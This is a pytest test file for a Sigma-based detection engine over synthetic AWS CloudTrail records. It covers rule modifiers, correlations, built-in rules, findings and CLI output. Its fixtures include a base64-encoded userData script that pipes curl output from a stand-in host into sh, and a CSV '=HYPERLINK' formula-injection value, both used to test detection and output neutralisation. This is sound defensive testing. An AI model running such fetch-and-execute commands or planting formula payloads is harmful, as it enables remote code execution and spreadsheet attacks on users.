"""Sigma detections (forensics.detect): the backend's semantics, our rules, correlations, findings."""

from __future__ import annotations

import json
import textwrap
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import forensics as fx
from forensics.detect import detect, load_rules
from forensics.detect._rules import BUILTIN_RULES
from forensics.ingest._normalize import normalize_records

T0 = datetime(2026, 3, 4, 14, 0, tzinfo=UTC)


def record(**kw: Any) -> dict[str, Any]:
    """A CloudTrail record with sensible defaults (override any field)."""
    base: dict[str, Any] = {
        "eventVersion": "1.09",
        "eventTime": T0.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "eventSource": "iam.amazonaws.com",
        "eventName": "ListUsers",
        "awsRegion": "us-east-1",
        "sourceIPAddress": "198.51.100.1",
        "userAgent": "aws-cli/2.15.0",
        "eventType": "AwsApiCall",
        "recipientAccountId": "111122223333",
        "userIdentity": {
            "type": "IAMUser",
            "arn": "arn:aws:iam::111122223333:user/alice",
            "accountId": "111122223333",
            "principalId": "AIDAEXAMPLE",
            "userName": "alice",
            "accessKeyId": "AKIAEXAMPLE000000009",
        },
    }
    base.update(kw)
    return base


def events(*records: dict[str, Any]) -> pl.DataFrame:
    recs = []
    for i, r in enumerate(records):
        r = dict(r)
        r.setdefault("eventID", f"ev-{i:04d}")
        recs.append(r)
    return normalize_records(recs, "test.json").sort("event_time")


def write_rule(tmp_path: Path, detection: str, name: str = "r.yml", extra: str = "") -> Path:
    body = textwrap.dedent(
        """\
        title: test rule
        id: 11111111-2222-3333-4444-555555555555
        logsource: {product: aws, service: cloudtrail}
        level: high
        tags: [attack.defense-evasion, attack.t1562.008]
        detection:
        """
    )
    body += textwrap.indent(textwrap.dedent(detection), "    ") + extra
    path = tmp_path / name
    path.write_text(body)
    return path


def hits(tmp_path: Path, detection: str, *records: dict[str, Any]) -> list[str]:
    rs = load_rules([write_rule(tmp_path, detection)], builtin=False)
    assert not rs.problems, rs.problems
    found = detect(events(*records), rs)
    return sorted(i for ids in found.frame["event_ids"].to_list() for i in ids)


# -- value modifiers and matching semantics ---------------------------------------------------------
def test_plain_values_are_case_insensitive_and_cased_is_not(tmp_path: Path) -> None:
    recs = [record(eventName="StopLogging"), record(eventName="stoplogging"), record()]
    assert hits(tmp_path, "sel: {eventName: STOPLOGGING}\ncondition: sel", *recs) == [
        "ev-0000",
        "ev-0001",
    ]
    assert hits(tmp_path, "sel: {eventName|cased: StopLogging}\ncondition: sel", *recs) == [
        "ev-0000"
    ]


def test_contains_startswith_endswith_and_wildcards(tmp_path: Path) -> None:
    recs = [
        record(userAgent="aws-cli/2.13.4 Python/3.11 Linux/6.5.0-kali1-amd64"),
        record(userAgent="Boto3/1.34 md/Botocore"),
        record(userAgent=None),
    ]
    assert hits(tmp_path, "s: {userAgent|contains: KALI}\ncondition: s", *recs) == ["ev-0000"]
    assert hits(tmp_path, "s: {userAgent|startswith: boto3/}\ncondition: s", *recs) == ["ev-0001"]
    assert hits(tmp_path, "s: {userAgent|endswith: '-AMD64'}\ncondition: s", *recs) == ["ev-0000"]
    assert hits(tmp_path, "s: {userAgent: 'aws-cli/2.1?.4*'}\ncondition: s", *recs) == ["ev-0000"]
    assert hits(tmp_path, "s: {userAgent: 'aws-cli/2.1?.5*'}\ncondition: s", *recs) == []
    # a regex metacharacter in a value is literal
    assert hits(tmp_path, "s: {userAgent|contains: 'md/bot.core'}\ncondition: s", *recs) == []


def test_all_modifier_and_lists(tmp_path: Path) -> None:
    recs = [record(userAgent="terraform/1.5 aws-sdk-go"), record(userAgent="terraform/1.5")]
    det = "s: {userAgent|contains|all: [terraform, sdk-go]}\ncondition: s"
    assert hits(tmp_path, det, *recs) == ["ev-0000"]
    det = "s: {userAgent|contains: [sdk-go, nothing]}\ncondition: s"
    assert hits(tmp_path, det, *recs) == ["ev-0000"]


def test_regular_expressions_and_their_flags(tmp_path: Path) -> None:
    recs = [
        record(errorMessage="User: x\nis not AUTHORIZED"),
        record(errorMessage="is not authorized"),
    ]
    assert hits(tmp_path, "s: {errorMessage|re: 'not authorized$'}\ncondition: s", *recs) == [
        "ev-0001"
    ]
    assert hits(tmp_path, "s: {errorMessage|re|i: 'not authorized$'}\ncondition: s", *recs) == [
        "ev-0000",
        "ev-0001",
    ]
    assert hits(tmp_path, "s: {errorMessage|re|i|m: '^is not'}\ncondition: s", *recs) == [
        "ev-0000",
        "ev-0001",
    ]
    assert hits(tmp_path, "s: {errorMessage|re|i: 'x.is'}\ncondition: s", *recs) == []
    assert hits(tmp_path, "s: {errorMessage|re|i|s: 'x.is'}\ncondition: s", *recs) == ["ev-0000"]


def test_cidr_ipv4_and_ipv6(tmp_path: Path) -> None:
    recs = [
        record(sourceIPAddress="10.1.2.3"),
        record(sourceIPAddress="172.20.0.9"),
        record(sourceIPAddress="2001:db8::1"),
        record(sourceIPAddress="s3.amazonaws.com"),
    ]
    det = "s: {sourceIPAddress|cidr: [10.0.0.0/8, 172.16.0.0/12]}\ncondition: s"
    assert hits(tmp_path, det, *recs) == ["ev-0000", "ev-0001"]
    det = "s: {sourceIPAddress|cidr: '2001:db8::/32'}\ncondition: s"
    assert hits(tmp_path, det, *recs) == ["ev-0002"]


def test_exists_null_and_empty(tmp_path: Path) -> None:
    recs = [
        record(errorCode="AccessDenied"),
        record(),
        record(errorCode=""),
        record(requestParameters={"userName": "bob"}),
    ]
    assert hits(tmp_path, "s: {errorCode|exists: true}\ncondition: s", *recs) == [
        "ev-0000",
        "ev-0002",
    ]
    assert hits(tmp_path, "s: {errorCode: null}\ncondition: s", *recs) == ["ev-0001", "ev-0003"]
    assert hits(tmp_path, "s: {errorCode: ''}\ncondition: s", *recs) == ["ev-0002"]
    assert hits(tmp_path, "s: {requestParameters.userName|exists: true}\ncondition: s", *recs) == [
        "ev-0003"
    ]
    assert hits(tmp_path, "s: {requestParameters.userName: null}\ncondition: s", *recs) == [
        "ev-0000",
        "ev-0001",
        "ev-0002",
    ]


def test_base64_and_base64offset(tmp_path: Path) -> None:
    import base64

    text = base64.b64encode(b"#!/bin/bash\ncurl http://x | sh").decode()
    recs = [
        record(requestParameters={"userData": text}),
        record(requestParameters={"userData": "x"}),
    ]
    det = "s: {requestParameters.userData|base64offset|contains: 'curl http'}\ncondition: s"
    assert hits(tmp_path, det, *recs) == ["ev-0000"]
    plain = base64.b64encode(b"secret").decode()
    recs = [record(requestParameters={"v": plain}), record(requestParameters={"v": "secret"})]
    assert hits(tmp_path, "s: {requestParameters.v|base64: secret}\ncondition: s", *recs) == [
        "ev-0000"
    ]


def test_json_paths_match_any_list_element_and_numbers(tmp_path: Path) -> None:
    perms = {
        "items": [
            {"fromPort": 443, "ipRanges": {"items": [{"cidrIp": "10.0.0.0/8"}]}},
            {"fromPort": 22, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}},
        ]
    }
    recs = [
        record(requestParameters={"ipPermissions": perms}),
        record(requestParameters={"ipPermissions": {"items": [perms["items"][0]]}}),
    ]
    path = "requestParameters.ipPermissions.items.ipRanges.items.cidrIp"
    assert hits(tmp_path, f"s: {{{path}: '0.0.0.0/0'}}\ncondition: s", *recs) == ["ev-0000"]
    det = "s: {requestParameters.ipPermissions.items.fromPort: 22}\ncondition: s"
    assert hits(tmp_path, det, *recs) == ["ev-0000"]
    det = "s: {requestParameters.ipPermissions.items.fromPort|lt: 100}\ncondition: s"
    assert hits(tmp_path, det, *recs) == ["ev-0000"]


def test_booleans_in_columns_and_json(tmp_path: Path) -> None:
    recs = [
        record(readOnly=True, requestParameters={"enable": False}),
        record(readOnly=False, requestParameters={"enable": True}),
    ]
    assert hits(tmp_path, "s: {readOnly: true}\ncondition: s", *recs) == ["ev-0000"]
    assert hits(tmp_path, "s: {requestParameters.enable: false}\ncondition: s", *recs) == [
        "ev-0000"
    ]


def test_keywords_search_the_whole_record(tmp_path: Path) -> None:
    recs = [record(requestParameters={"bucketName": "evil-exfil"}), record()]
    assert hits(tmp_path, "keywords: [EXFIL]\ncondition: keywords", *recs) == ["ev-0000"]


def test_selectors_of_patterns_and_them(tmp_path: Path) -> None:
    recs = [record(eventName="A"), record(eventName="B"), record(eventName="C")]
    det = "sel_a: {eventName: A}\nsel_b: {eventName: B}\nother: {eventName: C}\n"
    assert hits(tmp_path, det + "condition: 1 of sel_*", *recs) == ["ev-0000", "ev-0001"]
    assert hits(tmp_path, det + "condition: all of sel_*", *recs) == []
    assert hits(tmp_path, det + "condition: 1 of them", *recs) == ["ev-0000", "ev-0001", "ev-0002"]
    assert hits(tmp_path, det + "condition: not 1 of sel_*", *recs) == ["ev-0002"]


def test_not_of_a_missing_field_matches(tmp_path: Path) -> None:
    recs = [record(userAgent=None), record(userAgent="console.amazonaws.com")]
    det = "s: {eventName: ListUsers}\nf: {userAgent: console.amazonaws.com}\ncondition: s and not f"
    assert hits(tmp_path, det, *recs) == ["ev-0000"]


def test_field_mapping_for_identity_paths(tmp_path: Path) -> None:
    role = {
        "type": "AssumedRole",
        "arn": "arn:aws:sts::111122223333:assumed-role/Admin/bob",
        "accountId": "111122223333",
        "principalId": "AROAEXAMPLE:bob",
        "accessKeyId": "ASIAEXAMPLE000000001",
        "sessionContext": {
            "sessionIssuer": {
                "type": "Role",
                "arn": "arn:aws:iam::111122223333:role/path/Admin",
                "principalId": "AROAEXAMPLE",
                "accountId": "111122223333",
                "userName": "Admin",
            },
            "attributes": {"mfaAuthenticated": "true", "creationDate": "2026-03-04T13:00:00Z"},
        },
    }
    recs = [record(userIdentity=role), record()]
    for field, value in [
        ("userIdentity.sessionContext.sessionIssuer.userName", "Admin"),
        ("userIdentity.sessionContext.sessionIssuer.accountId", "111122223333"),
        ("userIdentity.sessionContext.sessionIssuer.principalId", "AROAEXAMPLE"),
        ("userIdentity.sessionContext.sessionIssuer.type", "Role"),
        ("userIdentity.sessionContext.attributes.mfaAuthenticated", "true"),
        ("userIdentity.type", "AssumedRole"),
        ("userIdentity.accessKeyId", "ASIAEXAMPLE000000001"),
    ]:
        assert hits(tmp_path, f"s: {{{field}: '{value}'}}\ncondition: s", *recs) == ["ev-0000"], (
            field
        )


# -- rules that cannot run are reported, the rest run -------------------------------------------
def test_bad_rules_are_reported_by_file_and_reason(tmp_path: Path) -> None:
    (tmp_path / "broken.yml").write_text("title: x\ndetection: [unclosed\n")
    write_rule(tmp_path, "s: {eventName|nosuchmod: x}\ncondition: s", "modifier.yml")
    write_rule(tmp_path, "s: {userIdentity.identityProvider: x}\ncondition: s", "field.yml")
    write_rule(tmp_path, "s: {eventName: x}\ncondition: s | count() > 5", "pipe.yml")
    write_rule(tmp_path, "s: {eventName: StopLogging}\ncondition: s", "good.yml")
    (tmp_path / "good.yml").write_text(
        (tmp_path / "good.yml").read_text().replace("11111111-2222", "99999999-2222")
    )
    rs = load_rules([tmp_path], builtin=False)
    reasons = {Path(p.source).name: p.reason for p in rs.problems}
    assert set(reasons) == {"broken.yml", "modifier.yml", "field.yml", "pipe.yml"}
    assert "invalid YAML" in reasons["broken.yml"]
    assert "nosuchmod" in reasons["modifier.yml"]
    assert "userIdentity.identityProvider" in reasons["field.yml"]
    assert "pipe" in reasons["pipe.yml"]
    found = detect(events(record(eventName="StopLogging")), rs)
    assert len(found) == 1 and found.problems == rs.problems


# -- correlations --------------------------------------------------------------------------------
def _corr(tmp_path: Path, correlation: str, base: str) -> Any:
    text = (
        "title: corr\n"
        "id: aaaaaaaa-0000-0000-0000-000000000001\n"
        "logsource: {product: aws, service: cloudtrail}\n"
        "level: high\n"
        "correlation:\n"
        + textwrap.indent(textwrap.dedent(correlation), "    ")
        + "---\n"
        + textwrap.dedent(base)
    )
    path = tmp_path / "corr.yml"
    path.write_text(text)
    rs = load_rules([path], builtin=False)
    assert not rs.problems, rs.problems
    return rs


BASE_DENIED = """\
title: Denied Call
id: aaaaaaaa-0000-0000-0000-000000000002
logsource: {product: aws, service: cloudtrail}
level: low
detection:
    s: {errorCode: AccessDenied}
    condition: s
"""


def test_event_count_by_group_within_timespan(tmp_path: Path) -> None:
    rs = _corr(
        tmp_path,
        """\
        type: event_count
        rules: [Denied Call]
        group-by: [sourceIPAddress]
        timespan: 5m
        condition: {gte: 3}
        """,
        BASE_DENIED,
    )
    t = lambda m: (T0 + timedelta(minutes=m)).strftime("%Y-%m-%dT%H:%M:%SZ")  # noqa: E731
    recs = [
        record(eventTime=t(0), errorCode="AccessDenied", sourceIPAddress="1.1.1.1"),
        record(eventTime=t(2), errorCode="AccessDenied", sourceIPAddress="1.1.1.1"),
        record(eventTime=t(4), errorCode="AccessDenied", sourceIPAddress="1.1.1.1"),
        record(eventTime=t(1), errorCode="AccessDenied", sourceIPAddress="2.2.2.2"),
        record(eventTime=t(2), errorCode="AccessDenied", sourceIPAddress="2.2.2.2"),
        record(eventTime=t(30), errorCode="AccessDenied", sourceIPAddress="2.2.2.2"),
    ]
    found = detect(events(*recs), rs)
    assert found.frame["kind"].to_list() == ["correlation"]  # the base rule does not generate
    assert sorted(found.frame["event_ids"][0]) == ["ev-0000", "ev-0001", "ev-0002"]
    assert found.frame["event_count"][0] == 3


def test_value_count(tmp_path: Path) -> None:
    rs = _corr(
        tmp_path,
        """\
        type: value_count
        rules: [Denied Call]
        group-by: [userIdentity.arn]
        timespan: 10m
        condition: {gte: 3, field: eventName}
        """,
        BASE_DENIED,
    )
    recs = [record(errorCode="AccessDenied", eventName=n) for n in ("A", "B", "B", "C")]
    assert len(detect(events(*recs), rs)) == 1
    recs = [record(errorCode="AccessDenied", eventName=n) for n in ("A", "B", "B", "A")]
    assert len(detect(events(*recs), rs)) == 0


TWO_BASES = """\
title: First
id: aaaaaaaa-0000-0000-0000-000000000003
logsource: {product: aws, service: cloudtrail}
detection:
    s: {eventName: GetCallerIdentity}
    condition: s
---
title: Second
id: aaaaaaaa-0000-0000-0000-000000000004
logsource: {product: aws, service: cloudtrail}
detection:
    s: {eventName: ListBuckets}
    condition: s
"""


@pytest.mark.parametrize("kind", ["temporal", "temporal_ordered"])
def test_temporal_and_ordered(tmp_path: Path, kind: str) -> None:
    rs = _corr(
        tmp_path,
        f"""\
        type: {kind}
        rules: [First, Second]
        group-by: [userIdentity.accessKeyId]
        timespan: 5m
        """,
        TWO_BASES,
    )
    t = lambda m: (T0 + timedelta(minutes=m)).strftime("%Y-%m-%dT%H:%M:%SZ")  # noqa: E731
    in_order = [
        record(eventTime=t(0), eventName="GetCallerIdentity"),
        record(eventTime=t(2), eventName="ListBuckets"),
    ]
    reversed_ = [
        record(eventTime=t(0), eventName="ListBuckets"),
        record(eventTime=t(2), eventName="GetCallerIdentity"),
    ]
    too_far = [
        record(eventTime=t(0), eventName="GetCallerIdentity"),
        record(eventTime=t(9), eventName="ListBuckets"),
    ]
    found = detect(events(*in_order), rs)
    assert len(found) == 1 and sorted(found.frame["event_ids"][0]) == ["ev-0000", "ev-0001"]
    assert len(detect(events(*reversed_), rs)) == (1 if kind == "temporal" else 0)
    assert len(detect(events(*too_far), rs)) == 0


# -- our own rules: each fires on its test events and not on its near-miss ---------------------
OWN = load_rules([], builtin=True)
OWN_TESTED = [r for r in OWN.rules if r.output and "tests" in r.custom]


def test_every_own_rule_has_tests_and_attack_tags() -> None:
    assert len(OWN_TESTED) == len([r for r in OWN.rules if r.output]) >= 30
    for r in OWN_TESTED:
        assert r.techniques and r.tactics, r.title


def _trail_of(recs: list[dict[str, Any]]) -> pl.DataFrame:
    t = lambda i: (T0 + timedelta(seconds=i)).strftime("%Y-%m-%dT%H:%M:%SZ")  # noqa: E731
    return events(*[record(**{"eventTime": t(i), **r}) for i, r in enumerate(recs)])


@pytest.mark.parametrize("rule", OWN_TESTED, ids=lambda r: Path(r.source).stem)
def test_own_rule_fires_on_its_test_event_not_on_its_near_miss(rule) -> None:
    rs = load_rules([rule.source], builtin=False)
    assert not rs.problems
    hit = detect(_trail_of(rule.custom["tests"]["match"]), rs)
    assert rule.id in hit.frame["rule_id"].to_list()
    miss = detect(_trail_of(rule.custom["tests"]["near_miss"]), rs)
    assert rule.id not in miss.frame["rule_id"].to_list()


def test_rules_ship_as_package_data() -> None:
    import tomllib

    pyproject = tomllib.loads((Path(__file__).parent.parent / "pyproject.toml").read_text())
    data = pyproject["tool"]["setuptools"]["package-data"]["forensics.detect"]
    assert "rules/*.yml" in data and any(BUILTIN_RULES.glob("*.yml"))


# -- findings ----------------------------------------------------------------------------------
def test_findings_filters_and_summary(tmp_path: Path) -> None:
    recs = [
        record(eventName="StopLogging", eventSource="cloudtrail.amazonaws.com"),
        record(
            eventName="DeleteTrail",
            eventSource="cloudtrail.amazonaws.com",
            eventTime=(T0 + timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M:%SZ"),
            userIdentity={
                "type": "Root",
                "arn": "arn:aws:iam::111122223333:root",
                "accountId": "111122223333",
            },
        ),
    ]
    found = fx.detect(fx.Trail(events(*recs)))
    alice = found.for_principal("alice")
    assert alice.frame["title"].to_list() == ["CloudTrail logging stopped"]
    assert alice.frame["principal"][0] == "arn:aws:iam::111122223333:user/alice"
    assert alice.frame["actor"][0] == alice.frame["principal"][0]  # no actor column yet
    assert alice.frame["access_key_id"][0] == "AKIAEXAMPLE000000009"
    assert alice.frame["account_id"][0] == "111122223333"
    assert alice.frame["techniques"][0].to_list() == ["T1562.008"]
    assert len(found.between(T0 + timedelta(hours=1), None)) == len(found) - 1
    s = found.summary()
    assert s["level"][0] == "high" and set(s["title"]) >= {
        "CloudTrail trail deleted",
        "Root user activity",
    }
    assert len(found.at_least("high")) == 2
    with pytest.raises(ValueError, match="unknown level"):
        found.at_least("severe")


def test_findings_use_the_actor_column_when_the_table_has_one() -> None:
    frame = events(record(eventName="StopLogging", eventSource="cloudtrail.amazonaws.com"))
    frame = frame.with_columns(pl.lit("person:alice@example.com").alias("actor"))
    found = fx.detect(frame)
    assert found.frame["actor"].to_list() == ["person:alice@example.com"]


def test_detect_on_an_empty_trail() -> None:
    from forensics._schema import empty_events

    assert len(fx.detect(fx.Trail(empty_events()))) == 0


def test_include_community_true_needs_a_folder(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("FORENSICS_COMMUNITY_RULES", raising=False)
    with pytest.raises(ValueError, match="FORENSICS_COMMUNITY_RULES"):
        fx.detect(events(record()), include_community=True)


# -- the command line ------------------------------------------------------------------------------
def _write_trail(tmp_path: Path, *recs: dict[str, Any]) -> Path:
    path = tmp_path / "trail.json"
    path.write_text(
        json.dumps({"Records": [dict(r, eventID=f"ev-{i}") for i, r in enumerate(recs)]})
    )
    return path


def _cli_main():
    """``forensics.cli.main`` (main's command-line package, where ``_detect`` is registered).

    On the branch this was written on, the package is not there yet: the command is driven
    through its own ``register`` instead.
    """
    try:
        from forensics.cli import main

        return main
    except ImportError:
        import argparse

        from forensics.cli import _detect

        def branch_main(argv: list[str]) -> int:
            parser = argparse.ArgumentParser(prog="forensics")
            _detect.register(parser.add_subparsers(dest="command", required=True))
            args = parser.parse_args(argv)
            return args.func(args)

        return branch_main


def test_cli_exit_code_follows_the_fail_level(tmp_path: Path, capsys) -> None:
    main = _cli_main()

    bad = _write_trail(
        tmp_path, record(eventName="StopLogging", eventSource="cloudtrail.amazonaws.com")
    )
    assert main(["detect", str(bad), "--no-cache"]) == 1
    assert "CloudTrail logging stopped" in capsys.readouterr().out
    assert main(["detect", str(bad), "--no-cache", "--fail-level", "critical"]) == 0
    calm = tmp_path / "calm"
    calm.mkdir()
    _write_trail(calm, record())
    assert main(["detect", str(calm), "--no-cache"]) == 0
    assert main(["detect", str(calm), "--no-cache", "--rules", str(tmp_path / "none")]) == 2


def test_cli_csv_and_json_outputs_neutralise_event_text(tmp_path: Path) -> None:
    main = _cli_main()

    trail = _write_trail(
        tmp_path,
        record(
            eventName="StopLogging",
            eventSource="cloudtrail.amazonaws.com",
            userIdentity={"type": "IAMUser", "arn": '=HYPERLINK("http://x")', "accountId": "1"},
        ),
    )
    out = tmp_path / "f.csv"
    assert main(["detect", str(trail), "--no-cache", "--format", "csv", "--out", str(out)]) == 1
    frame = pl.read_csv(out)
    assert frame["principal"][0].startswith("'=")
    out = tmp_path / "f.json"
    main(["detect", str(trail), "--no-cache", "--format", "json", "--out", str(out)])
    rows = json.loads(out.read_text())
    assert rows[0]["title"] == "CloudTrail logging stopped" and rows[0]["event_ids"] == ["ev-0"]


def test_blast_radius_lists_the_findings_inside_its_closure() -> None:
    recs = [
        record(eventName="StopLogging", eventSource="cloudtrail.amazonaws.com"),
        record(
            eventName="DeleteTrail",
            eventSource="cloudtrail.amazonaws.com",
            userIdentity={
                "type": "IAMUser",
                "arn": "arn:aws:iam::111122223333:user/bob",
                "accountId": "111122223333",
                "userName": "bob",
                "accessKeyId": "AKIAOTHERKEY00000001",
            },
        ),
    ]
    trail = fx.Trail(events(*recs))
    br = fx.blast_radius(trail, "AKIAEXAMPLE000000009")
    assert br.findings().frame["title"].to_list() == ["CloudTrail logging stopped"]
    by = fx.detect(trail).by_principal()
    assert by["highest_level"].to_list() == ["high", "high"]
    assert set(by["principal"]) == {
        "arn:aws:iam::111122223333:user/alice",
        "arn:aws:iam::111122223333:user/bob",
    }


# -- wildcard matching against a reference (hypothesis) ------------------------------------------

_ALPHABET = "aB.*?\\[]()|+^$ x-"


def _reference(pattern: str, text: str) -> bool:
    """Sigma's wildcard matching, spelled out: * any run, ? one char, \\ escapes, no case."""
    import re as _re

    out, i = [], 0
    while i < len(pattern):
        c = pattern[i]
        if c == "\\" and i + 1 < len(pattern) and pattern[i + 1] in "*?\\":
            out.append(_re.escape(pattern[i + 1]))
            i += 2
            continue
        out.append(".*" if c == "*" else "." if c == "?" else _re.escape(c))
        i += 1
    return _re.fullmatch("".join(out), text, _re.S | _re.I) is not None


@settings(max_examples=150, deadline=None)
@given(
    pattern=st.text(alphabet=_ALPHABET, min_size=1, max_size=8),
    texts=st.lists(st.text(alphabet=_ALPHABET, max_size=10), min_size=1, max_size=6),
)
def test_wildcard_values_match_like_the_reference(pattern: str, texts: list[str]) -> None:
    from sigma.types import SigmaString

    from forensics.detect._compile import _string_match

    expr = _string_match(pl.col("t"), SigmaString(pattern), cased=False)
    got = pl.DataFrame({"t": texts}).select(expr.fill_null(False)).to_series().to_list()
    assert got == [_reference(pattern, t) for t in texts]


def test_timestamp_parts_and_keyword_numbers(tmp_path: Path) -> None:
    t = lambda h: (T0 + timedelta(hours=h)).strftime("%Y-%m-%dT%H:%M:%SZ")  # noqa: E731
    recs = [record(eventTime=t(0)), record(eventTime=t(3))]
    assert hits(tmp_path, "s: {eventTime|hour: 17}\ncondition: s", *recs) == ["ev-0001"]
    assert hits(tmp_path, "s: {eventTime|day: 4}\ncondition: s", *recs) == ["ev-0000", "ev-0001"]


_RULE_BITS = st.sampled_from(
    [
        "eventName",
        "userIdentity.arn",
        "requestParameters.a.b",
        "nosuch",
        "|contains",
        "|re",
        "|cidr",
        "|base64offset",
        "|all",
        "|exists",
        "|bogus",
        "|i",
        ": x",
        ": [a, '*b?']",
        ": null",
        ": 10.0.0.0/8",
        ": '('",
        ": true",
        "\n",
        " ",
    ]
)


@settings(max_examples=60, deadline=None)
@given(
    bits=st.lists(_RULE_BITS, max_size=8),
    condition=st.sampled_from(["s", "1 of s*", "s and", "not s", "s | count()"]),
)
def test_any_rule_text_loads_or_is_reported_never_raises(tmp_path_factory, bits, condition) -> None:
    folder = tmp_path_factory.mktemp("fuzz")
    body = "title: fuzz\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n"
    body += "    s:\n        " + "".join(bits).replace("\n", "\n        ") + "\n"
    body += f"    condition: {condition}\n"
    (folder / "r.yml").write_text(body)
    rs = load_rules([folder], builtin=False)
    assert len(rs.rules) + len(rs.problems) >= 1
    found = detect(events(record(), record(userAgent=None)), rs)  # what loads also runs
    assert found.frame.height >= 0


def test_findings_timeline_chart_aggregates_by_rule_and_bin() -> None:
    t = lambda m: (T0 + timedelta(minutes=m)).strftime("%Y-%m-%dT%H:%M:%SZ")  # noqa: E731
    recs = [
        record(eventTime=t(m), eventName="StopLogging", eventSource="cloudtrail.amazonaws.com")
        for m in (0, 1, 2, 300)
    ] + [record(eventTime=t(5), eventName="ListUsers")]
    found = fx.detect(events(*recs))
    data = fx.charts.findings_timeline_data(found, every="1h")
    assert data.filter(pl.col("title") == "CloudTrail logging stopped")["hits"].to_list() == [3, 1]
    chart = fx.charts.findings_timeline(found, every="1h")
    assert fx.charts.chart_rows(chart) == data.height
    assert fx.charts.findings_timeline_data(found, min_level="critical").height == 0


def test_min_level_leaves_lower_rules_out() -> None:
    recs = [
        record(eventName="StopLogging", eventSource="cloudtrail.amazonaws.com"),
        record(eventName="UpdateFunctionCode20150331v2", eventSource="lambda.amazonaws.com"),
    ]
    everything = fx.detect(events(*recs))
    assert {"high", "low"} <= set(everything.frame["level"].cast(pl.String))
    high = fx.detect(events(*recs), min_level="high")
    assert set(high.frame["level"].cast(pl.String)) == {"high"}
    assert high.frame.equals(everything.at_least("high").frame)
    with pytest.raises(ValueError, match="unknown level"):
        fx.detect(events(*recs), min_level="severe")
